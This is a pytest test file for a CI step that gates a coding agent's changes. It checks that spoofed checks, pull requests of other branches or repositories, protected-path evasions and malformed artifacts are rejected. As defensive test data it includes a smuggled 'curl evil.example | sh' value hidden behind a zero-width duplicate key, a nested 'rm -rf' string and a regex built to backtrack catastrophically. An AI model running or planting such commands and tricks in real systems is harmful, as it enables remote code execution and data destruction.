"""Work that does not hold, played as whole steps: none of it may end with exit 0 or hand an artifact on."""

from __future__ import annotations

import copy
import json
import signal
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from mogplex_ci.emulator import Emulator
from tests.github_api import TOKEN, FakeGitHub, Look, check, suite
from tests.program import GitHubStep
from tests.slow import slow
from tests.waits import wait_until

DONE, OPEN, FAILED = check("build", "success"), check("deploy", None), check("deploy", "failure")
OTHER = "f" * 40
PULL = "https://github.com/acme/web/pull/42"
WORKFLOW = ".github/workflows/ci.yml"
SCENARIO = """\
artifacts:
  report: {artifact}
steps:
  - {{after: 100ms, part: launch}}
{deliveries}
  - {{after: 100ms, event: finished, message: Harness run finished, payload: {{exit_code: 0, failure_code: null}}}}
  - status: success
"""
COMMIT = '  - {after: 100ms, commit: "{{ commit_sha }}"}\n'
"""What the service records of a run that created its branch."""


def delivery(changed: bool, pull_request: str | None = None) -> str:
    """Return the step that writes a delivery event, which is the agent's side."""
    payload = {"stage": "git_delivery", "changed": changed, "pull_request_url": pull_request}
    return f"  - {{event: log, message: Delivered, payload: {json.dumps(payload)}}}"


@dataclass(frozen=True)
class Attack:
    """What the run delivers, what GitHub tells of it, and what the step says then."""

    inputs: dict[str, str]
    code: str
    github: dict[str, Any] = field(default_factory=dict)
    pull_request: dict[str, Any] | None = None
    deliveries: tuple[str, ...] = (delivery(changed=True, pull_request=PULL),)
    artifact: str = "{text: '{}'}"
    schema: Any = field(default_factory=dict)


def changed(path: str, **fields: str) -> dict[str, Any]:
    """Return GitHub's side of a comparison that shows one file."""
    return {"files": [{"filename": path, **fields}]}


def protects(pattern: str, path: str) -> Attack:
    """Return a change of a path that a pattern is to protect."""
    return Attack({"protected-paths": pattern}, "PATH_NOT_ALLOWED", changed(path))


def invalid(artifact: str, schema: Any = None) -> Attack:
    """Return an artifact, as the file's text, that must not be handed on."""
    return Attack(
        {"artifact": "report", "artifact-schema": "schema.json"},
        "ARTIFACT_INVALID",
        artifact=f"{{text: {json.dumps(artifact)}}}",
        schema=schema or {},
    )


CHECKS, PULL_REQUEST, CHANGE = ({"require": word} for word in ("checks", "pull-request", "change"))
ATTACKS = {
    "a job appears when the one that it needs is done": Attack(
        CHECKS,
        "CHECKS_FAILED",
        {"looks": [*[Look([DONE], [suite(1, None, runs=1)])] * 2, Look([DONE, FAILED])]},
    ),
    "all checks were skipped": Attack(CHECKS, "CHECKS_FAILED", {"looks": [Look([check("build", "skipped")])]}),
    "five checks announced, one listed": Attack(
        CHECKS, "CHECKS_FAILED", {"looks": [*[Look([DONE], missing=4)] * 2, Look([DONE, FAILED])]}
    ),
    "the branch moved on while the checks ran": Attack(
        CHECKS | {"protected-paths": ".github/", "branch": "fix", "create-branch": "true"},
        "BRANCH_MOVED",
        {"looks": [Look([DONE])], "tips": {"fix": [None, OTHER]}},
    ),
    "a pull request of another commit": Attack(PULL_REQUEST, "NO_PULL_REQUEST", pull_request={"head": {"sha": OTHER}}),
    "a pull request of another branch": Attack(
        PULL_REQUEST, "NO_PULL_REQUEST", pull_request={"head": {"ref": "other"}}
    ),
    "a pull request of another repository": Attack(
        PULL_REQUEST,
        "NO_PULL_REQUEST",
        pull_request={"head": {"ref": "other"}},
        deliveries=(delivery(changed=True, pull_request="https://github.com/evil/web/pull/42"),),
    ),
    "a closed pull request": Attack(PULL_REQUEST, "NO_PULL_REQUEST", pull_request={"state": "closed"}),
    "an event says that nothing changed": Attack(
        {"protected-paths": ".github/"}, "PATH_NOT_ALLOWED", changed(WORKFLOW), deliveries=(delivery(changed=False),)
    ),
    "the last of two deliveries says that nothing changed": Attack(
        {"protected-paths": ".github/"},
        "PATH_NOT_ALLOWED",
        changed(WORKFLOW),
        deliveries=(delivery(changed=True), delivery(changed=False)),
    ),
    "older commits of the branch": Attack(
        CHANGE | {"branch": "feature", "create-branch": "false"},
        "NO_CHANGE",
        {"tips": {"feature": [OTHER]}, "is_empty_between": {(OTHER, OTHER)}, "ahead_by": 3},
        deliveries=(),
    ),
    "a link in place of a folder": protects(".husky/", ".husky"),
    "a submodule": protects("vendor/lib/", "vendor/lib"),
    "another case": protects("package.json", "Package.json"),
    "another normal form": protects("caf\u00e9/", "cafe\u0301/menu.md"),
    "a line break": protects("*.lock", "yarn\n.lock"),
    "a line break behind an allowed path": Attack(
        {"allowed-paths": "src/ok.py"}, "PATH_NOT_ALLOWED", changed("src/ok.py\n")
    ),
    "a pattern that begins with ./": Attack({"protected-paths": "./.github/"}, "USAGE", changed(WORKFLOW)),
    "a pattern with //": Attack({"protected-paths": ".github//"}, "USAGE", changed(WORKFLOW)),
    "a comment behind a pattern": Attack({"protected-paths": "*.yml # workflows"}, "USAGE", changed(WORKFLOW)),
    "gates that are not waited for": Attack({"require": "change", "wait": "false"}, "USAGE", {"files": []}),
    "two keys that become one": invalid('{"version": "1.2.3", "ver\\u200bsion": "1.2.3; curl evil.example | sh"}'),
    "a number that is none": invalid('{"version": NaN}', {"properties": {"version": {"type": "number"}}}),
    "a list that would be cut": invalid('{"fixes": ' + "[" * 99 + '"rm -rf"' + "]" * 99 + "}"),
    "a line break behind a name": invalid('{"name": "abc\\n"}', {"properties": {"name": {"pattern": "^[a-z]+$"}}}),
    "other digits": invalid('{"port": "\u0663\u0664"}', {"properties": {"port": {"pattern": "^\\d+$"}}}),
    "a date that is none": invalid('{"day": "tomorrow"}', {"properties": {"day": {"format": "date"}}}),
}

SLOW = [
    name
    for name, attack in ATTACKS.items()
    if attack.code in ("CHECKS_FAILED", "BRANCH_MOVED") or {"older", "commit"} & set(name.split())
]
"""GitHub is asked again, every ten seconds."""


@pytest.fixture
def api() -> Iterator[FakeGitHub]:
    with FakeGitHub() as api:
        api.files = [{"filename": "src/a.ts"}]
        yield api


def attacked(folder: Path, api: FakeGitHub, emulator: Emulator, attack: Attack) -> GitHubStep:
    """Return the step that meets the attack."""
    known = {"prompt": "Fix it", "base-url": emulator.url, "api-key": emulator.token, "github-token": TOKEN}
    step = GitHubStep(folder, known | {"output-dir": "."} | attack.inputs, {"GITHUB_API_URL": api.url})
    (step.workspace / "schema.json").write_text(json.dumps(attack.schema))
    api.watch(emulator)
    return step


def scenario(folder: Path, attack: Attack) -> Path:
    """Write the scenario that delivers what the attack says."""
    path = folder / "attack.yaml"
    text = SCENARIO.format(artifact=attack.artifact, deliveries="\n".join(attack.deliveries))
    path.write_text(text if attack.inputs.get("create-branch") == "false" else text + COMMIT)
    return path


@pytest.mark.parametrize("name", [*slow(SLOW), *(name for name in ATTACKS if name not in SLOW)])
def test_an_attack_on_the_gates_is_rejected(name: str, tmp_path: Path, api: FakeGitHub) -> None:
    attack = ATTACKS[name]
    if attack.pull_request is not None:
        api.add_pull_request(42, **attack.pull_request)
    for key, value in attack.github.items():
        setattr(api, key, copy.deepcopy(value))
    with Emulator(scenario(tmp_path, attack), speed=50) as emulator:
        step = attacked(tmp_path, api, emulator, attack)
        ended = step.run()
    expected = 2 if attack.code == "USAGE" else 1
    assert (ended.code, step.outputs["error-code"]) == (expected, attack.code), ended.out
    assert step.outputs.get("artifact", "") == ""
    assert not (step.workspace / "artifact.json").exists()


@pytest.mark.slow
def test_a_workflow_does_not_wait_for_its_own_job(tmp_path: Path, api: FakeGitHub) -> None:
    own = "https://github.com/acme/web/actions/runs/9876543210/job/1"
    agent = check("agent", None, html_url=own, check_suite={"id": 9})
    api.looks = [Look([agent, DONE], [suite(9, None, runs=1), suite(1, "success", runs=1)])]
    attack = Attack(CHECKS | {"timeout": "40s"}, "")
    with Emulator(scenario(tmp_path, attack), speed=50) as emulator:
        step = attacked(tmp_path, api, emulator, attack)
        assert step.run().code == 0, step.outputs


@pytest.mark.slow
def test_checks_are_not_given_up_before_the_timeout(tmp_path: Path, api: FakeGitHub) -> None:
    api.looks = [Look([DONE, OPEN]), Look([DONE, check("deploy", "success")])]
    attack = Attack(CHECKS | {"timeout": "12s"}, "")
    with Emulator(scenario(tmp_path, attack), speed=50) as emulator:
        step = attacked(tmp_path, api, emulator, attack)
        step.run()
        assert float(step.outputs["duration-seconds"]) > 10


def test_a_slow_pattern_does_not_hold_the_step(tmp_path: Path, api: FakeGitHub) -> None:
    """The pattern is the workflow's, the text the agent's: seventy characters would take years."""
    slow_pattern = {"properties": {"title": {"pattern": r"^(\w+\s?)*$"}}}
    attack = invalid(json.dumps({"title": "a" * 70 + "!"}), slow_pattern)
    with Emulator(scenario(tmp_path, attack), speed=50) as emulator:
        step = attacked(tmp_path, api, emulator, attack)
        with step.start() as process:
            wait_until(lambda: emulator.runs and emulator.runs[0].commit_sha and step.outputs.get("run-id"), process)
            time.sleep(2)
            process.send_signal(signal.SIGTERM)
            out, _ = process.communicate(timeout=30)
    assert (process.returncode, step.outputs["error-code"]) in [(143, "INTERRUPTED"), (1, "ARTIFACT_INVALID")], out
